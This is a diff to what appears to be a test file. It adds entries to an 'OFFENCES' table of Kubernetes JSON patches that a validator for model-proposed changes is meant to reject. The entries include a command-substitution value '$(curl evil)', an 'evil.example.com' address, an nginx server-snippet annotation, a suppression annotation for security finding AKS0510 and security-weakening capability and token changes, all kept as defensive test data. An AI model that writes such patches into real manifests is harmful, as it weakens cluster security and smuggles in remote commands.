@@ -78,6 +78,8 @@ OFFENCES: dict[str, tuple[list[tuple[Any, ...]], str]] = {
     "token": ([("add", f"{SPEC}/automountServiceAccountToken", True)], "weaken the security"),
     "snippet": ([("add", "/metadata/annotations/nginx.ingress.kubernetes.io~1server-snippet", "x")], "never written by a model"),
     "identity": ([("add", "/metadata/annotations/azure.workload.identity~1client-id", "x")], "never written by a model"),
+    "an accepted finding": ([("add", "/metadata/annotations/ignore.aks-copilot.io~1AKS0510", "fine")], "never written by a model"),
+    "a capability that takes another's place": ([("replace", f"{CONTEXT}/capabilities/drop/0", "KILL")], "weaken the security"),
     "address": ([("replace", "/metadata/annotations/x", "see https://evil.example.com")], "addresses, templates and code"),
     "template": ([("replace", "/metadata/annotations/x", "{{ .Values.x }}")], "addresses, templates and code"),
     "code": ([("replace", "/metadata/annotations/x", "$(curl evil)")], "addresses, templates and code"),
